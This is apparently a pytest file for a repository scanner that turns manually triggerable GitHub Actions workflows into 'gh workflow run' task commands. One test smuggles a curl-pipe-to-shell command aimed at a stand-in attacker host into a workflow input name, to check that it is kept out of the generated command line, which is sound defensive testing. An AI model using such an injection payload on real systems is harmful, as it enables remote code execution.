"""GitHub Actions workflows that can be started by hand are tasks: `gh workflow run FILE -f input=...`."""

from __future__ import annotations

from skilldex.scan import scan_repo

BACKFILL = """name: Backfill invoices
on:
  workflow_dispatch:
    inputs:
      month:
        description: Month to backfill (YYYY-MM)
        required: true
      dry_run:
        description: Only count the rows
        type: boolean
        default: true
      region:
        required: true
        default: eu-west-1
  schedule:
    - cron: "0 3 * * *"
jobs:
  backfill:
    runs-on: ubuntu-latest
    steps:
      - name: Backfill the billing database
        run: python scripts/backfill.py --month ${{ inputs.month }}
"""


def tasks(root) -> dict:
    return {i.path: i for i in scan_repo(root).items if i.kind == "task"}


def test_workflows_started_by_hand_are_tasks_with_their_inputs(repo):
    found = tasks(
        repo(
            {
                ".github/workflows/backfill.yml": BACKFILL,
                ".github/workflows/release.yaml": "on: [push, workflow_dispatch]\njobs: {}\n",
                ".github/workflows/smoke.yml": "on: workflow_dispatch\njobs: {}\n",
                ".github/workflows/ci.yml": "on:\n  push:\n  pull_request:\njobs: {}\n",  # automation only
                ".github/workflows/broken.yml": "on: [workflow_dispatch\n",  # GitHub cannot read it either
                ".github/workflows/old/deploy.yml": "on: workflow_dispatch\n",  # GitHub only reads the folder itself
            }
        )
    )
    assert sorted(found) == [
        ".github/workflows/backfill.yml",
        ".github/workflows/release.yaml",
        ".github/workflows/smoke.yml",
    ]
    backfill = found[".github/workflows/backfill.yml"]
    assert (backfill.name, backfill.runner, backfill.line) == ("backfill", "github-actions", 2)
    assert backfill.run == "gh workflow run backfill.yml -f month=<month>"  # the only required input without default
    assert backfill.description == (
        "Backfill invoices (inputs: month: Month to backfill (YYYY-MM); dry_run: Only count the rows; region)"
    )
    assert "database" in backfill.capabilities and "data" in backfill.capabilities
    assert found[".github/workflows/smoke.yml"].run == "gh workflow run smoke.yml"
    assert found[".github/workflows/release.yaml"].description == "release.yaml"


def test_a_workflow_that_is_not_a_mapping_is_nothing(repo):
    assert tasks(repo({".github/workflows/list.yml": "- workflow_dispatch\n", ".github/workflows/empty.yml": ""})) == {}


def test_input_names_that_are_no_names_never_reach_the_command_line(repo):
    hostile = (
        "on:\n  workflow_dispatch:\n    inputs:\n      env:\n        required: true\n"
        '      "x; curl https://evil.example/p.sh | sh; echo ":\n        required: true\n'
        "      42:\n        required: true\n"
    )
    found = tasks(
        repo(
            {
                ".github/workflows/b.yml": hostile,
                ".github/workflows/big.yml": "on: workflow_dispatch\njobs:\n"
                + "".join(f"  j{n}:\n    runs-on: x\n" for n in range(4000)),
            }
        )
    )
    assert found[".github/workflows/b.yml"].run == "gh workflow run b.yml -f env=<env>"
    assert found[".github/workflows/big.yml"].run == "gh workflow run big.yml"  # well over 64 KB of YAML


def test_only_the_word_on_starts_a_workflow_as_github_reads_it(repo):
    found = tasks(
        repo(
            {
                ".github/workflows/yes.yml": "yes: workflow_dispatch\njobs: {}\n",  # YAML 1.1 true, but not `on`
                ".github/workflows/cap.yml": "On: workflow_dispatch\njobs: {}\n",
                ".github/workflows/quoted.yml": '"on": workflow_dispatch\nname: {a: 1}\njobs: {}\n',
            }
        )
    )
    assert sorted(found) == [".github/workflows/quoted.yml"]
    assert found[".github/workflows/quoted.yml"].description == "quoted.yml"  # a name that is no text is left out
